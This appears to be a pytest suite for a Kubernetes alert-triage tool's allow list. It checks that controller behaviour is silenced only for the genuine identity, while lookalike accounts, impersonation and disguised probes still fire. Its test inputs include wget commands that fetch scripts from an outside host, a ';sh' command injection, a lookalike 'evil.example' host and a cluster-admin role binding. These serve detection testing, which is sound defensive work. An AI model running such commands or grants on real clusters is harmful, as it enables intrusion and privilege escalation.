"""The shipped allow list: each entry covers exactly its controller's behaviour, by
the authenticated identity; the same behaviour by anyone else still fires."""

from __future__ import annotations

from pathlib import Path

import orjson
import pytest
from fresh_python import run_fresh
from k8s_records import T0, audit, falco, pod_object, tetragon_exec

from ktriage.core.allowlist import (
    AllowList,
    AllowListError,
    default_allowlist,
    entries_from_text,
    is_expected,
)
from ktriage.core.config import Config, ConfigError, load_config
from ktriage.core.correlate import Correlator
from ktriage.core.ingest import Ingestor
from ktriage.core.model import Event, Severity

INGRESS = "system:serviceaccount:ingress-nginx:ingress-nginx"
KSM = "system:serviceaccount:monitoring:kube-state-metrics"
DS_CONTROLLER = "system:serviceaccount:kube-system:daemon-set-controller"
NODE_EXPORTER_MOUNTS = {"/proc": True, "/sys": True, "/": True}


def add_all(correlator: Correlator, events: list[Event]) -> None:
    for ev in events:
        correlator.add(ev)


def feed(line: bytes, allowlist: AllowList | None = None) -> Event:
    """The record's own event, after the detections and the allow list."""
    ingestor = Ingestor(allowlist=allowlist if allowlist is not None else default_allowlist())
    out = ingestor.feed_line(line) + ingestor.flush()
    assert out, ingestor.skip_log
    return out[0]


def incidents(lines: list[bytes], config: Config | None = None) -> Correlator:
    config = config or Config()
    correlator = Correlator(config=config)
    ingestor = Ingestor(allowlist=config.allowlist)
    for line in lines:
        add_all(correlator, ingestor.feed_line(line))
    add_all(correlator, ingestor.flush())
    return correlator


# ---- ingress controllers ----------------------------------------------------------


def test_ingress_nginx_listing_secrets_cluster_wide_is_expected_context() -> None:
    line = audit(T0, INGRESS, "list", "secrets", user_agent="nginx-ingress-controller/v1.10.1")
    ev = feed(line)
    assert not ev.signal
    assert is_expected(ev) and "ingress-nginx" in ev.suppressed_by
    assert feed(line, AllowList()).severity == Severity.HIGH  # without the list: high
    assert not incidents([line]).incidents


def test_hostile_lookalike_account_named_like_the_controller_still_fires() -> None:
    """An attacker's service account called ingress-nginx in their own namespace."""
    ev = feed(audit(T0, "system:serviceaccount:evil:ingress-nginx", "list", "secrets"))
    assert ev.signal and ev.severity == Severity.HIGH and not ev.suppressed_by


def test_hostile_lookalike_pod_and_user_agent_do_not_make_a_request_expected() -> None:
    """A default token from a pod named like the controller, with its user agent."""
    line = audit(
        T0,
        "system:serviceaccount:shop:default",
        "list",
        "secrets",
        user_agent="nginx-ingress-controller/v1.10.1",
        extra={"authentication.kubernetes.io/pod-name": ["ingress-nginx-controller-5d8f7"]},
    )
    ev = feed(line)
    assert ev.signal and ev.severity == Severity.HIGH


def test_hostile_impersonating_the_controller_is_never_expected() -> None:
    ev = feed(audit(T0, "alice", "list", "secrets", impersonate=INGRESS))
    assert ev.signal and not ev.suppressed_by


def test_the_controller_doing_anything_else_still_fires() -> None:
    binding = {
        "kind": "ClusterRoleBinding",
        "metadata": {"name": "pwn"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                    "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "ingress-nginx",
                      "namespace": "ingress-nginx"}],
    }  # fmt: skip
    ev = feed(
        audit(
            T0,
            INGRESS,
            "create",
            "clusterrolebindings",
            api_group="rbac.authorization.k8s.io",
            request_object=binding,
        )
    )
    assert ev.signal and ev.severity == Severity.HIGH


# ---- kube-state-metrics, Argo CD, cert-manager --------------------------------------


def test_kube_state_metrics_list_and_watch_but_not_get() -> None:
    assert is_expected(feed(audit(T0, KSM, "list", "secrets")))
    assert is_expected(feed(audit(T0, KSM, "watch", "secrets", query="watch=true")))
    read = feed(audit(T0, KSM, "get", "secrets", namespace="payments", name="stripe-key"))
    assert read.signal and read.severity == Severity.MEDIUM


def test_argo_cd_server_reads_secrets_only_in_its_namespace() -> None:
    server = "system:serviceaccount:argocd:argocd-server"
    assert is_expected(feed(audit(T0, server, "get", "secrets", namespace="argocd", name="repo")))
    other = feed(audit(T0, server, "get", "secrets", namespace="payments", name="db"))
    assert other.signal and other.severity == Severity.MEDIUM


def test_cert_manager_renewal_reads_are_expected() -> None:
    cm = "system:serviceaccount:cert-manager:cert-manager"
    ev = feed(audit(T0, cm, "get", "secrets", namespace="shop", name="storefront-tls"))
    assert is_expected(ev)
    assert feed(audit(T0, cm, "get", "secrets", namespace="shop", name="x"), AllowList()).signal


# ---- Helm: anyone, so a low signal at most ----------------------------------------------


CI = "system:serviceaccount:ci:deployer"


def test_helm_listing_its_release_secrets_stays_low() -> None:
    query = "labelSelector=name%3Dshop%2Cowner%3Dhelm"
    ev = feed(audit(T0, CI, "list", "secrets", namespace="shop", query=query))
    assert ev.signal and ev.severity == Severity.LOW
    assert "expected: Helm release secrets (list)" in ev.summary
    plain_list = feed(audit(T0, CI, "list", "secrets", namespace="shop"))
    assert plain_list.severity == Severity.MEDIUM


@pytest.mark.parametrize(
    "selector",
    ["owner%3Dhelm2", "owner%21%3Dhelm", "notowner%3Dhelm", "owner+in+%28helm%2Cx%29"],
)
def test_hostile_label_selectors_that_do_not_restrict_to_helm_are_not_expected(
    selector: str,
) -> None:
    query = f"labelSelector={selector}"
    ev = feed(audit(T0, CI, "list", "secrets", namespace="shop", query=query))
    assert ev.severity == Severity.MEDIUM and "expected" not in ev.summary


def test_helm_release_secret_read_by_name_stays_low() -> None:
    ev = feed(audit(T0, CI, "get", "secrets", namespace="shop", name="sh.helm.release.v1.shop.v3"))
    assert ev.signal and ev.severity == Severity.LOW
    other = feed(audit(T0, CI, "get", "secrets", namespace="shop", name="db-password"))
    assert other.severity == Severity.MEDIUM


# ---- node-exporter: pods by the DaemonSet controller, the DaemonSet by anyone -----------


def _ds_pod(mounts: dict[str, bool], **kw: object) -> bytes:
    obj = pod_object(
        "monitoring",
        "node-exporter-x7k2p",
        host_paths=mounts,
        host_network=True,
        host_pid=True,
        owner=("DaemonSet", "node-exporter"),
        **kw,  # type: ignore[arg-type]
    )
    return audit(
        T0,
        DS_CONTROLLER,
        "create",
        "pods",
        namespace="monitoring",
        request_object=obj,
        response_object=obj,
        source_ip="10.0.0.2",
        user_agent="kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350"
        "/system:serviceaccount:kube-system:daemon-set-controller",
    )


def test_node_exporter_pods_made_by_the_daemonset_controller_are_expected() -> None:
    ev = feed(_ds_pod(NODE_EXPORTER_MOUNTS))
    assert not ev.signal and is_expected(ev)


@pytest.mark.parametrize(
    ("mounts", "extra"),
    [
        ({"/proc": True, "/sys": True, "/": False}, {}),  # root writable
        ({"/proc": True, "/var/run/containerd/containerd.sock": True}, {}),
        (NODE_EXPORTER_MOUNTS, {"privileged": True}),
    ],
    ids=["writable-root", "runtime-socket", "privileged"],
)
def test_hostile_daemonset_pods_asking_more_than_node_exporter_still_fire(
    mounts: dict[str, bool], extra: dict[str, object]
) -> None:
    ev = feed(_ds_pod(mounts, **extra))
    assert ev.signal and not ev.suppressed_by


def _daemonset(user: str, mounts: dict[str, bool], privileged: bool = False) -> bytes:
    pod = pod_object(
        "monitoring",
        "x",
        host_paths=mounts,
        host_network=True,
        host_pid=True,
        privileged=privileged,
    )
    ds = {
        "kind": "DaemonSet",
        "apiVersion": "apps/v1",
        "metadata": {"name": "node-exporter", "namespace": "monitoring"},
        "spec": {
            "selector": {"matchLabels": {"app": "node-exporter"}},
            "template": {"metadata": {"labels": {"app": "node-exporter"}}, "spec": pod["spec"]},
        },
    }
    return audit(
        T0,
        user,
        "create",
        "daemonsets",
        namespace="monitoring",
        api_group="apps",
        request_object=ds,
        user_agent="Helm/3.15.2",
    )


def test_a_helm_install_of_node_exporter_is_a_low_signal_not_high() -> None:
    ev = feed(_daemonset("alice@example.com", NODE_EXPORTER_MOUNTS))
    assert ev.signal and ev.severity == Severity.LOW
    assert feed(_daemonset("alice@example.com", NODE_EXPORTER_MOUNTS), AllowList()).severity == (
        Severity.HIGH
    )


def test_hostile_daemonset_copying_node_exporter_but_writable_stays_high() -> None:
    ev = feed(_daemonset("mallory", {"/proc": True, "/sys": True, "/": False}))
    assert ev.signal and ev.severity >= Severity.HIGH
    ev = feed(_daemonset("mallory", NODE_EXPORTER_MOUNTS, privileged=True))
    assert ev.signal and ev.severity >= Severity.HIGH


# ---- probes (Tetragon) -------------------------------------------------------------------


def _probe(arguments: str, binary: str = "/usr/bin/wget", parent: str = "/usr/bin/runc") -> Event:
    return feed(tetragon_exec(T0, binary, arguments, namespace="shop", pod="web-1", parent=parent))


def test_a_wget_liveness_probe_is_expected() -> None:
    ev = _probe("-q -O- http://localhost:8080/healthz")
    assert not ev.signal and is_expected(ev)
    assert not _probe("--spider -q http://127.0.0.1:9090/-/ready").signal
    assert not _probe("-fsS http://localhost:8080/healthz", binary="/usr/bin/curl").signal


@pytest.mark.parametrize(
    "arguments",
    [
        "-q -O /tmp/x http://198.51.100.7/x",  # writes a file, from outside
        "-q -O- http://198.51.100.7/install.sh",  # from outside
        "-q -O- http://localhost:8080/healthz http://198.51.100.7/x",  # a second URL
        "-q -O- http://localhost.evil.example/healthz",  # a lookalike host
        "-q -O- http://localhost:8080/healthz;sh",
        "-q -O- http://localhost:8080/" + "a" * 5000,  # longer than any probe
    ],
)
def test_hostile_downloads_dressed_as_probes_still_fire(arguments: str) -> None:
    ev = _probe(arguments)
    assert ev.signal and not ev.suppressed_by


def test_a_probe_command_from_a_shell_is_not_a_probe() -> None:
    ev = _probe("-q -O- http://localhost:8080/healthz", parent="/bin/sh")
    assert ev.signal


# ---- the shipped list as a whole, and configuration -------------------------------------


def test_hostile_every_entry_is_bound_to_its_identity() -> None:
    """The same request by an account of the same name in another namespace (or a
    person of the same name) matches no entry that makes it silent."""
    allow = default_allowlist()
    checked = 0
    for entry in allow.entries:
        if entry.source != "audit" or "*" in entry.users or entry.pod_spec is not None:
            continue  # (the pod-spec entries are tested above with their objects)
        for user in entry.users:
            verb = sorted(entry.verbs)[0]
            resource = sorted(entry.resources)[0]
            resource = "secrets" if resource == "*" else resource
            ns = next((p for p in entry.namespaces if "*" not in p), "default")
            name = next((p for p in entry.names if "*" not in p), "x")
            assert allow.for_request(user, verb, resource, ns, name, "", lambda: None) is entry
            sa_name = user.rsplit(":", 1)[-1]
            for other in (f"system:serviceaccount:attacker:{sa_name}", sa_name):
                found = allow.for_request(other, verb, resource, ns, name, "", lambda: None)
                assert found is None or found.severity == Severity.LOW, (entry.name, other)
            checked += 1
    assert checked >= 30


def test_the_list_can_be_switched_off_and_extended(tmp_path: Path) -> None:
    (tmp_path / "mine.toml").write_text(
        '[[allow]]\nname = "backup job"\nreason = "velero reads every secret nightly"\n'
        'users = ["system:serviceaccount:velero:velero"]\nverbs = ["list"]\n'
        'resources = ["secrets"]\n'
    )
    cfg_path = tmp_path / "config.toml"
    cfg_path.write_text('[allowlist]\ndefault = false\nfiles = ["mine.toml"]\n')
    cfg = load_config(cfg_path)
    assert [e.name for e in cfg.allowlist.entries] == ["backup job"]
    assert feed(audit(T0, INGRESS, "list", "secrets"), cfg.allowlist).signal
    velero = feed(
        audit(T0, "system:serviceaccount:velero:velero", "list", "secrets"), cfg.allowlist
    )
    assert "backup job" in velero.suppressed_by
    # The default list is on without a config section.
    cfg_path.write_text('window = "10m"\n')
    assert len(load_config(cfg_path).allowlist) == len(default_allowlist())


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('[[allow]]\nname = "x"\nusers = ["*"]\nresources = ["secrets"]\n', "narrow"),
        ('[[allow]]\nname = "x"\nverbs = ["get"]\n', "needs users"),
        ('[[allow]]\nname = "x"\nusers = ["a"]\ncolour = "red"\n', "unknown key"),
        ('[[allow]]\nname = "x"\nsource = "tetragon"\n', "needs binaries"),
        ('[[allow]]\nname = "x"\nsource = "tetragon"\nbinaries = ["a"]\narguments = "("\n',
         "regular expression"),
        ('[[allow]]\nname = "x"\nusers = ["a"]\nseverity = "urgent"\n', "severity"),
    ],
)  # fmt: skip
def test_bad_allow_list_files_say_why(text: str, message: str) -> None:
    with pytest.raises(AllowListError, match=message):
        entries_from_text(text, "test.toml")


def test_a_bad_file_named_in_the_config_is_a_config_error(tmp_path: Path) -> None:
    cfg_path = tmp_path / "config.toml"
    cfg_path.write_text('[allowlist]\nfiles = ["missing.toml"]\n')
    with pytest.raises(ConfigError, match=r"missing\.toml"):
        load_config(cfg_path)
    cfg_path.write_text("[allowlist]\ndefault = 1\n")
    with pytest.raises(ConfigError, match="true or false"):
        load_config(cfg_path)


def test_a_users_falco_entry_covers_that_process_only() -> None:
    allow = AllowList(
        entries_from_text(
            '[[allow]]\nname = "backup agent"\nsource = "falco"\nbinaries = ["restic"]\n'
            'parents = ["backup-cron"]\narguments = "backup /data"\n',
            "mine.toml",
        )
    )
    fields = {"proc.name": "restic", "proc.pname": "backup-cron"}

    def alert(cmdline: str, **extra: str) -> bytes:
        return falco(T0, "Read sensitive file untrusted", "Warning", namespace="ops",
                     pod="backup-1", cmd=cmdline, fields={**fields, **extra})  # fmt: skip

    assert is_expected(feed(alert("restic backup /data"), allow))
    assert feed(alert("restic backup /etc"), allow).signal
    assert feed(alert("restic backup /data", **{"proc.pname": "bash"}), allow).signal
    assert feed(alert("restic backup /data"), default_allowlist()).signal


def _falco_k8saudit(user: str, **extra: str) -> bytes:
    """A Falco k8saudit alert (rule "K8s Secret Get Successfully" of the plugin's rules)."""
    import orjson

    fields = {
        "ka.user.name": user,
        "ka.verb": "get",
        "ka.target.resource": "secrets",
        "ka.target.namespace": "shop",
        "ka.target.name": "storefront-tls",
        "ka.uri": "/api/v1/namespaces/shop/secrets/storefront-tls",
        "ka.response.code": "200",
        **extra,
    }
    return orjson.dumps(
        {
            "output": f"K8s Secret Get Successfully (user={user} secret=storefront-tls ns=shop)",
            "priority": "Error",
            "rule": "K8s Secret Get Successfully",
            "source": "k8s_audit",
            "time": "2026-09-21T12:00:00.000000000Z",
            "output_fields": fields,
            "tags": ["k8s"],
        }
    )


def test_falco_k8saudit_alerts_are_matched_like_audit_requests() -> None:
    assert is_expected(feed(_falco_k8saudit("system:serviceaccount:cert-manager:cert-manager")))
    lookalike = feed(_falco_k8saudit("system:serviceaccount:shop:cert-manager"))
    assert lookalike.signal and not lookalike.suppressed_by
    impersonated = feed(
        _falco_k8saudit(
            "system:serviceaccount:cert-manager:cert-manager", **{"ka.impuser.name": "alice"}
        )
    )
    assert impersonated.signal


def test_hostile_an_entry_open_to_anyone_covers_only_its_own_detections() -> None:
    """The node-exporter DaemonSet entry lowers the host-access detections of such a
    spec, never another detection of the same request (where, or by whom, it is made)."""
    allow = default_allowlist()
    ds = orjson.loads(_daemonset("mallory", NODE_EXPORTER_MOUNTS))["requestObject"]
    found = allow.for_request("mallory", "create", "daemonsets", "kube-system", "agent", "",
                              lambda: ds, "hostpath-pod")  # fmt: skip
    assert found is not None and found.name == "node-exporter DaemonSet"
    for kind in ("daemonset-kube-system", "workload-create", ""):
        assert allow.for_request("mallory", "create", "daemonsets", "kube-system", "agent", "",
                                 lambda: ds, kind) is None  # fmt: skip


def test_the_shipped_list_is_read_from_json_that_is_its_toml() -> None:
    """Every start reads the shipped allow list from allowlist.json (no TOML parser to
    import); allowlist.toml is the file to read and copy from. They must say the same.
    After editing the TOML, write the JSON again:
    python -c "import json, tomllib; p = 'ktriage/core/allowlist'; open(p + '.json', 'w')
    .write(json.dumps(tomllib.load(open(p + '.toml', 'rb')), indent=1, ensure_ascii=False)
    + '\\n')"
    """
    import tomllib

    from ktriage.core import allowlist as allowlist_module
    from ktriage.core.allowlist import DEFAULT_DATA, DEFAULT_FILE, entries_from_text

    here = Path(allowlist_module.__file__).parent
    toml_text = (here / DEFAULT_FILE).read_text("utf-8")
    assert orjson.loads((here / DEFAULT_DATA).read_bytes()) == tomllib.loads(toml_text)
    shipped = list(allowlist_module._default_entries())
    assert shipped == entries_from_text(toml_text, f"(shipped) {DEFAULT_FILE}")
    assert len(shipped) >= 20


def test_the_shipped_list_is_read_from_a_zip_archive_too(tmp_path: Path) -> None:
    """Imported from a zip archive (a zipapp, a zipped package), the shipped list is
    found through the package's loader: the path beside the module is inside the zip."""
    import os
    import zipfile

    root = Path(__file__).resolve().parents[2]
    archive = tmp_path / "ktriage.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for path in (root / "ktriage").rglob("*"):
            if path.suffix in {".py", ".json", ".toml"} and "__pycache__" not in path.parts:
                zf.write(path, path.relative_to(root).as_posix())
    driver = (
        "import ktriage.core.allowlist as a, sys\n"
        "assert '.zip' in a.__file__, a.__file__\n"
        "print(len(a.default_allowlist().entries))\n"
    )
    # Not from the checkout (as a directory on the path, or the current one).
    out = run_fresh(driver, env=dict(os.environ, PYTHONPATH=str(archive)), cwd=tmp_path)
    assert int(out) == len(_toml_entries(root))


def _toml_entries(root: Path) -> list[object]:
    """The entries of the shipped allowlist.toml, as TOML reads them."""
    import tomllib

    return tomllib.loads((root / "ktriage" / "core" / "allowlist.toml").read_text())["allow"]
